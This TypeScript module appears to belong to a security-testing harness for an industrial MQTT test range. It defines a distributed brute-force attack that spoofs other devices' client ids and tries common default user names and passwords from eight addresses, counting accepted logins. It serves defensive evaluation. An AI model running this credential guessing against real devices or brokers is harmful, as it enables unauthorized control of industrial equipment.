import type { Attack } from './attack.ts'
import { connect } from './packets.ts'

/** Addresses and identities that take part, and tries of each. */
const PLACES = 8
const TRIES = 3

/**
 * Tries from many addresses, a few times each, to come in as somebody else: another device's client id with one's own certificate,
 * and user names and passwords that are often left as delivered. Effect: times accepted as another device.
 */
export const distributedBruteForce: Attack = {
  name: 'distributed-brute-force',
  technique: 'T0859',
  title: 'Guess identities from many addresses',
  expected: 'floor',
  alone: false,
  seconds: () => 5,
  async run(range) {
    await range.proveAccess()
    const victims = ['operator-1', 'controller-1', 'pump-2']
    const guesses = ['admin', 'operator', 'mqtt']
    let accepted = 0
    let attempts = 0
    await Promise.all(
      Array.from({ length: PLACES }, async (_, place) => {
        for (let i = 0; i < TRIES; i++) {
          const session = await range.dial({ place }).catch(() => null)
          const clientId = victims[(place + i) % victims.length]
          const guess = { username: guesses[i], password: guesses[(place + i) % guesses.length] }
          attempts++
          if ((await session?.login(connect({ version: 4, clientId, ...guess }))) === 0) accepted++
          session?.destroy()
          await range.sleep(200)
        }
      }),
    )
    const detail = `accepted as another device ${accepted} times of ${attempts}, from ${PLACES} addresses`
    return { attempts, effect: accepted, detail }
  },
}
